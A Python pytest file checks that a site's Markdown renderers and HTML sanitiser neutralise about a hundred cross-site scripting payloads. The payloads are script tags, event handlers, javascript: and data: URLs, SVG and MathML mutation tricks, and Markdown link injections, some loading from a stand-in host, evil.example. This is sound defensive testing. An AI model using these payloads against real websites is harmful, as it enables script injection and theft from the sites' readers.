"""Nothing that a body says makes a reader's browser run, load or send anything."""

import pytest

from posts.rendering.sanitising import sanitised
from tests.posts.rendering.rendered import commonmark, dangers, elements, page, python_markdown

PAYLOADS = """
<script>run()</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>run()</scr</script>ipt>
<script/x>run()</script
<script
>run()</script>
<img src=x onerror=run()>
<img src=x oNeRrOr="run()">
<img/src/onerror=run()>
<img src="x`><script>run()</script>"`>
<img src=javascript:run()>
<img src=data:image/svg+xml;base64,PHN2Zy8+>
<img srcset="data:text/html,x 1x, javascript:run() 2x" src=a>
<a href=javascript:run()>x</a>
<a href="JaVaScRiPt:run()">x</a>
<a href="java&#10;script:run()">x</a>
<a href="java&Tab;script:run()">x</a>
<a href="&#1;javascript:run()">x</a>
<a href="&#x6A;avascript&colon;run()">x</a>
<a href=" &#14; javascript:run()">x</a>
<a href="vbscript:run()">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="feed:javascript:run()">x</a>
<a href="blob:https://a.example/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href=x style="position:fixed;inset:0" onclick=run() target=_top>x</a>
<a href=x ping=//evil.example>x</a>
<style>@import url(//evil.example/x.css)</style>
<p style="background:url(javascript:run())">x</p>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:run()">
<base href=//evil.example/>
<iframe src=javascript:run()></iframe>
<iframe srcdoc="<script>run()</script>"></iframe>
<frameset onload=run()><frame src=//evil.example></frameset>
<object data=javascript:run()></object>
<embed src=javascript:run()>
<applet code=x></applet>
<form action=//evil.example><input name=q><button>go</button></form>
<input type=image src=x onerror=run() formaction=javascript:run()>
<input autofocus onfocus=run()>
<button formaction=javascript:run()>x</button>
<select onchange=run()><option>x</select>
<textarea autofocus onfocus=run()>x</textarea>
<keygen autofocus onfocus=run()>
<isindex action=javascript:run()>
<svg onload=run()></svg>
<svg><script>run()</script></svg>
<svg><a xlink:href="javascript:run()"><text y=9>x</text></a></svg>
<svg><animate onbegin=run() attributeName=x></svg>
<svg><style><img src=x onerror=run()></style></svg>
<svg><foreignObject><iframe src=javascript:run()></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=run()></style></mglyph></table></mtext></math>
<math href="javascript:run()">x</math>
<math><annotation-xml encoding="text/html"><script>run()</script></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=run()>">
<template><script>run()</script></template>
<title><img src=x onerror=run()></title>
<xmp><img src=x onerror=run()></xmp>
<plaintext><img src=x onerror=run()>
<noembed><img src=x onerror=run()></noembed>
<noframes><p title="</noframes><img src=x onerror=run()>"></noframes>
<!--><img src=x onerror=run()>-->
<!-- --!><img src=x onerror=run()>
<!--[if IE]><script>run()</script><![endif]-->
<![CDATA[<script>run()</script>]]>
<?xml-stylesheet href="javascript:run()"?><img src=x onerror=run()>
<p title='"><script>run()</script>'>x</p>
<video src=javascript:run() poster=javascript:run() onloadstart=run()></video>
<audio controls src=data:audio/x onplay=run()></audio>
<video><source onerror=run() src=x></video>
<details open ontoggle=run()>x</details>
<marquee onstart=run()>x</marquee>
<body onload=run()>
<html onmouseover=run()>
<table background=javascript:run()><td background=javascript:run()>x</table>
<blockquote cite=javascript:run()>x</blockquote>
<dialog open>x</dialog>
<x-evil is=script onclick=run()>x</x-evil>
<portal src=//evil.example></portal>
<b id=x name=body>x</b>
<div class="menu site-header cookie">x</div>
<p><table><p><script>run()</script></table>
[x](javascript:run())
[x](JAVASCRIPT:run())
[x](<java&#10;script:run()>)
[x](&#106;avascript:run())
[x](data:text/html,<script>run()</script>)
[x]: javascript:run() "t" [x]
![x](javascript:run())
![x](x "onerror=run() \\"><script>run()</script>")
![x" onerror="run()](x)
<javascript:run()>
<vbscript:run()>
```"><script>run()</script>
## x {#"><script>run()</script>}
## x {onclick=run() style=color:red}
{: onclick=run() style=color:red }
| a | <script>run()</script> |
- [ ] <img src=x onerror=run()>
x[^1] [^1]: <img src=x onerror=run()>
x[^"onclick=run()]
""".strip().split("\n")


def test_there_are_enough_payloads_to_mean_something() -> None:
    assert len(set(PAYLOADS)) > 90


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_does_nothing_alone(payload: str) -> None:
    assert dangers(commonmark(payload).html) == []
    assert dangers(python_markdown(payload).html) == []
    assert dangers(sanitised(payload)) == []


@pytest.mark.parametrize(
    "around", ["> {}\n", "- a\n\n  {}\n", "**{}**", "<div>\n\n{}\n\n</div>", "<p title='{}'>", "# {}", "[{}](/x)"]
)
def test_a_payload_does_nothing_inside_other_markup(around: str) -> None:
    for payload in PAYLOADS:
        body = around.format(payload)
        assert dangers(commonmark(body).html) == [], payload
        assert dangers(python_markdown(body).html) == [], payload


def test_all_payloads_in_one_text_do_nothing() -> None:
    for separator in ("\n\n", "\n", " "):
        body = separator.join(PAYLOADS)
        assert dangers(commonmark(body).html) == []
        assert dangers(python_markdown(body).html) == []


@pytest.mark.parametrize("safe", ["<style>", "style=", "javascript:run()", "<script>run()</script>"])
def test_code_that_shows_such_things_is_left_in_sight(safe: str) -> None:
    assert commonmark(f"```\n{safe}\n```").text == safe


def test_the_test_itself_sees_what_it_looks_for() -> None:
    unsafe = (
        '<script>x</script><a href="java\tscript:x" style="x" onclick="x">x</a><img srcset="data:x 1x"><input><!-- -->'
    )
    assert dangers(unsafe) == [
        "<script>",
        "href=java\tscript:x",
        "style=",
        "onclick=",
        "srcset=data:x 1x",
        "a live field",
        "a comment",
    ]


def test_the_sites_own_classes_cannot_be_worn() -> None:
    html = commonmark('<div class="masthead highlight note">x</div>\n\n<p class="card">y</p>').html
    assert elements(html, "div")[0].get("class") == "highlight note"
    assert elements(html, "p")[0].attrib == {}


def test_a_role_or_a_place_in_the_tab_order_cannot_be_chosen() -> None:
    html = commonmark('<div role="banner" tabindex="5" contenteditable accesskey="s">x</div>').html
    assert elements(html, "div")[0].attrib == {}


def test_what_a_style_or_script_holds_is_no_text() -> None:
    assert sanitised("<style>a</style><script>b</script><svg><style>c</style></svg>d") == "d"


@pytest.mark.parametrize("body", ["<b id=a><div>", "- <table>\n- ", "<p><a id=a><div><a id=a>", "<table>x<li>y<tr>"])
def test_markup_that_has_to_be_mended_is_mended_for_good(body: str) -> None:
    html = commonmark(body).html
    assert sanitised(html) == html
    ids = [element.get("id") for element in page(html).iter() if element.get("id")]
    assert len(ids) == len(set(ids))


def test_blank_lines_with_which_preformatted_text_begins_stay() -> None:
    html = commonmark("<pre>\n\n\na\n</pre>").html
    assert elements(html, "pre")[0].text == "\n\na\n"  # of the first line end browsers make nothing
    assert sanitised(html) == html


def test_harmless_html_stays() -> None:
    html = commonmark('<abbr title="adverse event">AE</abbr> H<sub>2</sub>O <kbd>x</kbd> <mark lang="fr">y</mark>').html
    assert '<abbr title="adverse event">AE</abbr> H<sub>2</sub>O <kbd>x</kbd> <mark lang="fr">y</mark>' in html


def test_addresses_of_every_kind_that_we_use_stay() -> None:
    body = "[a](https://a.example) [b](mailto:b@a.example) [c](tel:+84123) [d](/d) [e](#e) [f](f.html)"
    assert all(link.get("href") for link in elements(commonmark(body).html, "a"))
